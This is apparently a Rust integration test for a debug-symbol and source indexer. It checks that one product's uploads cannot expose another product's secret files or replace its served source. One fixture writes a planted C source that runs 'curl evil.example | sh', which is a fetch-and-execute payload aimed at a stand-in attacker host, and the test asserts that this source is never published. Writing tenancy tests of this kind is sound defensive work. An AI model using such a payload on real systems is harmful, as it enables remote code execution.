//! Tenancy of the source joins through the Lambda over moto_server (THREATS.md, invariants 1
//! and 2), tried as an uploader of another product would, with product prefixes enforced (a
//! CI role writes only under its product's prefix): product B's unpublished files never serve
//! product A's debug file (one build string, or none; either order, or one batch), A's planted
//! source never beats B's own, and a debug file claiming another product's served source is a
//! conflict naming that product.

#[path = "support/checks.rs"]
mod checks;
mod support;

use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde_json::Value;
use support::{config, run_in, Stack, SERVING};
use symdex_lambda::Context;

/// What product B keeps to itself.
const B_SECRET: &str = "b-secret";

/// One upload: its ingest key and file.
type Upload<'a> = (String, &'a Path);

/// Uploads each file at its key (with `x-amz-meta-build: build` when given) and runs the
/// indexer on their notifications, in one batch.
async fn index_batch(
    stack: &Stack,
    ctx: &Arc<Context>,
    build: Option<&str>,
    uploads: &[Upload<'_>],
) {
    for (key, path) in uploads {
        let metadata: Vec<(&str, &str)> = build.map(|b| ("build", b)).into_iter().collect();
        stack
            .put(key, std::fs::read(path).unwrap(), &metadata)
            .await;
    }
    stack.index_received(ctx, uploads.len()).await;
}

/// Runs `sh -c script` in `dir`.
fn sh(dir: &Path, script: &str) {
    run_in(dir, &["sh", "-c", script]);
}

/// A's debug file, whose DWARF names `<dir>/x/.env` and `<dir>/x/app/config/secrets.env`;
/// B's `.env` and `secrets.tar.gz` (`x/.env`, `app/config/secrets.env`). Returns (A's debug
/// file, B's files).
fn secrets(dir: &Path) -> (PathBuf, Vec<PathBuf>) {
    sh(
        dir,
        "mkdir -p a/x/app/config b/x/app/config \
         && printf '#include \".env\"\\n#include \"app/config/secrets.env\"\\nint main(void) { return e() + s() - 3; }\\n' > a/x/main.c \
         && printf 'static int e(void) {\\n    return 1;\\n}\\n' > a/x/.env \
         && printf 'static int s(void) {\\n    return 2;\\n}\\n' > a/x/app/config/secrets.env \
         && (cd a/x && gcc -g -O0 -o prog main.c && objcopy --only-keep-debug prog ../a.debug) \
         && echo 'TOKEN=b-secret-1' > b/.env && cp b/.env b/x/.env \
         && echo 'PASSWORD=b-secret-2' > b/x/app/config/secrets.env \
         && tar -czf b/secrets.tar.gz -C b/x .env app/config/secrets.env \
         && tar -czf b/x.tar.gz -C b x/.env",
    );
    let b = ["b/.env", "b/secrets.tar.gz", "b/x.tar.gz"].map(|f| dir.join(f));
    (dir.join("a/a.debug"), b.to_vec())
}

/// A stack and an indexer enforcing product prefixes.
async fn product_stack() -> (Stack, Arc<Context>) {
    let stack = Stack::new().await;
    let vars = [("SYMDEX_PRODUCT_PREFIXES", "true")];
    let ctx = Arc::new(Context::new(config(&vars), stack.moto.s3().await));
    (stack, ctx)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_products_files_never_serve_a_debug_file() {
    let dir = tempfile::tempdir().unwrap();
    let (a_debug, b_files) = secrets(dir.path());
    let a: Vec<Upload> = vec![("a/ci/a.debug".into(), a_debug.as_path())];
    let b: Vec<Upload> = b_files
        .iter()
        .map(|f| {
            (
                format!("b/ci/{}", f.file_name().unwrap().to_string_lossy()),
                f.as_path(),
            )
        })
        .collect();
    for build in [Some("ci-42"), None] {
        let both: Vec<Upload> = b.iter().chain(&a).cloned().collect();
        let orders: [(&str, Vec<&[Upload]>); 3] = [
            ("B first", vec![&b, &a]),
            ("A first", vec![&a, &b]),
            ("one batch", vec![&both]),
        ];
        for (order, batches) in orders {
            let what = format!("{order}, build {build:?}");
            let (stack, ctx) = product_stack().await;
            for batch in batches {
                index_batch(&stack, &ctx, build, batch).await;
            }
            let published = checks::published(&stack, SERVING).await;
            assert!(
                published.keys().all(|k| !k.contains("/source/")),
                "{what}: {:?}",
                published.keys()
            );
            assert!(
                published
                    .values()
                    .all(|b| !String::from_utf8_lossy(b).contains(B_SECRET)),
                "{what}"
            );
            let records = checks::manifest_records(&stack, SERVING).await;
            let secret_shaped: Vec<&Value> = records
                .iter()
                .filter(|r| r["product"] == "b" && r["action"] == "skipped")
                .filter(|r| {
                    r["reason"]
                        .as_str()
                        .is_some_and(|r| r.contains("secret-shaped"))
                })
                .collect();
            assert!(secret_shaped.len() >= 4, "{what}: {records:#?}");
            let a_record = records.iter().find(|r| r["kind"] == "debug").unwrap();
            assert_eq!(a_record["sources"]["served"], 0, "{what}: {a_record}");
            let (problems, _) = checks::audited(&stack, SERVING).await;
            assert!(problems.is_empty(), "{what}: {problems:?}");
        }
    }
}

/// B's program `b/src/main.c` (built in `b/`), its debug file and its own `src.tar.gz`
/// (`src/main.c`); A's plant `plant.tar.gz` (`b/src/main.c`, a longer suffix of B's path).
fn program_and_plant(dir: &Path) {
    sh(
        dir,
        "mkdir -p b/src plant/b/src \
         && printf 'int main(void) {\\n    return 0;\\n}\\n' > b/src/main.c \
         && (cd b && gcc -g -O0 -o prog src/main.c && objcopy --only-keep-debug prog prog.debug \
             && tar -czf src.tar.gz src/main.c) \
         && echo 'int main(void) { return system(\"curl evil.example | sh\"); }' > plant/b/src/main.c \
         && tar -czf plant.tar.gz -C plant b/src/main.c",
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_source_never_beats_the_own_and_a_shared_build_id_is_a_conflict() {
    let dir = tempfile::tempdir().unwrap();
    program_and_plant(dir.path());
    let (debug, tarball, plant) = (
        dir.path().join("b/prog.debug"),
        dir.path().join("b/src.tar.gz"),
        dir.path().join("plant.tar.gz"),
    );
    let build_id = support::build_id_of(&debug);
    let root = dir.path().canonicalize().unwrap().join("b");
    let key = format!("buildid/{build_id}/source{}/src/main.c", root.display());
    let main = std::fs::read(root.join("src/main.c")).unwrap();
    let b: Vec<Upload> = vec![
        ("b/ci/prog.debug".into(), debug.as_path()),
        ("b/ci/src.tar.gz".into(), tarball.as_path()),
    ];

    // A's plant first, then B's uploads: B's own source serves B's debug file.
    let (stack, ctx) = product_stack().await;
    let planted: Vec<Upload> = vec![("a/ci/plant.tar.gz".into(), plant.as_path())];
    index_batch(&stack, &ctx, Some("ci-42"), &planted).await;
    index_batch(&stack, &ctx, Some("ci-42"), &b).await;
    let published = checks::published(&stack, SERVING).await;
    assert_eq!(published.get(&key), Some(&main), "B's own source");
    assert!(published
        .values()
        .all(|b| !String::from_utf8_lossy(b).contains("evil.example")));

    // A's stolen copy of B's debug file and its plant first: B's debug file finds its build
    // id held by A, and its record says so (a conflict naming A).
    let (stack, ctx) = product_stack().await;
    let stolen: Vec<Upload> = vec![
        ("a/ci/prog.debug".into(), debug.as_path()),
        ("a/ci/plant.tar.gz".into(), plant.as_path()),
    ];
    index_batch(&stack, &ctx, Some("ci-42"), &stolen).await;
    index_batch(&stack, &ctx, Some("ci-42"), &b).await;
    let records = checks::manifest_records(&stack, SERVING).await;
    let conflict = records
        .iter()
        .find(|r| r["product"] == "b" && r["action"] == "conflict")
        .unwrap_or_else(|| panic!("a conflict of B's: {records:#?}"));
    assert_eq!(
        conflict["held_by_products"],
        serde_json::json!(["a"]),
        "{conflict}"
    );
    assert_eq!(conflict["kind"], "debug", "{conflict}");
    assert!(
        conflict["sources"]["unserved"]
            .to_string()
            .contains("product a"),
        "{conflict}"
    );
    let published = checks::published(&stack, SERVING).await;
    assert_ne!(
        published.get(&key),
        Some(&main),
        "B's bytes are not A's key's"
    );
}
